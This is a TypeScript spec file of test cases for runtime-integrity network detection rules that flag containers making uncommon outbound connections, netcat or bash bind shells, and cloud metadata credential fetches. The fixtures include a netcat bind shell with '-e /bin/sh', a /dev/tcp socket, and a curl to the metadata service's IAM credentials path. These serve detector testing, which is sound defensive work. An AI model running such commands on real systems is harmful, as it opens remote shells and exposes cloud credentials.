/**
 * Specifications of the rules in policies/runtimeintegrity/30-network.yaml: network flows.
 */
import { img } from "./support.js"
import { appContainer, containerShell, type RuleSpec, run, webContainer } from "./ruleSpec.js"

export const networkRules: ReadonlyArray<RuleSpec> = [
  {
    rule: "Outbound connection to an uncommon port from a container",
    priority: "Medium",
    tags: ["mitre:T1571", "command-and-control", "container", "network"],
    on: "NF",
    fires: [
      { title: "nc connecting to 203.0.113.7:4444", build: (s) => void s.connect(s.spawn(containerShell(s).sh, run("/usr/bin/nc", "203.0.113.7 4444")), "203.0.113.7", 4444) },
      { title: "a UDP flow to port 1194", build: (s) => void s.connect(appContainer(s).entry, "198.51.100.9", 1194, { proto: 17 }) }
    ],
    quiet: [
      { title: "a container calling an HTTPS API", build: (s) => void s.connect(appContainer(s).entry, "140.82.112.3", 443) },
      { title: "a container talking to its sidecar on the loopback", build: (s) => void s.connect(appContainer(s).entry, "127.0.0.1", 15001) },
      { title: "a host process connecting to port 4444", build: (s) => void s.connect(s.spawn(s.loginShell(), run("/usr/bin/nc", "203.0.113.7 4444")), "203.0.113.7", 4444) },
      { title: "a container accepting a connection on port 4444", build: (s) => void s.accept(appContainer(s).entry, 4444, "10.244.0.1", "10.244.0.12") }
    ]
  },
  {
    rule: "Shell or netcat accepted a connection",
    priority: "High",
    tags: ["mitre:T1059.004", "mitre:T1095", "command-and-control", "network"],
    on: "NF",
    fires: [
      { title: "nc -lvp 4444 accepting a connection in a container", build: (s) => void s.accept(s.spawn(containerShell(s).sh, run("/bin/nc.traditional", "-lvp 4444 -e /bin/sh")), 4444) },
      { title: "bash accepting a connection on the host", build: (s) => void s.accept(s.spawn(s.loginShell(), img.bash("-c exec 3<>/dev/tcp/0.0.0.0/31337")), 31337) }
    ],
    quiet: [
      { title: "nginx accepting a connection", build: (s) => void s.accept(webContainer(s).worker, 80, "10.244.0.1", "10.244.0.12") },
      { title: "nc connecting out", build: (s) => void s.connect(s.spawn(s.loginShell(), run("/usr/bin/nc", "10.0.0.5 6379")), "10.0.0.5", 6379) }
    ]
  },
  {
    rule: "Cloud metadata service contacted from a container",
    priority: "Medium",
    tags: ["mitre:T1552.005", "credential-access", "container", "network"],
    on: "NF",
    fires: [
      {
        title: "curl in a container fetching instance credentials",
        build: (s) =>
          void s.connect(s.spawn(containerShell(s).sh, run("/usr/bin/curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")), "169.254.169.254", 80)
      }
    ],
    quiet: [
      { title: "the host's cloud agent contacting the metadata service", build: (s) => void s.connect(s.hostService(run("/usr/bin/google_guest_agent")), "169.254.169.254", 80, { sip: "10.0.2.15" }) },
      { title: "a container using the node-local DNS cache on a link-local address", build: (s) => void s.connect(appContainer(s).entry, "169.254.20.10", 53, { proto: 17 }) }
    ]
  }
]
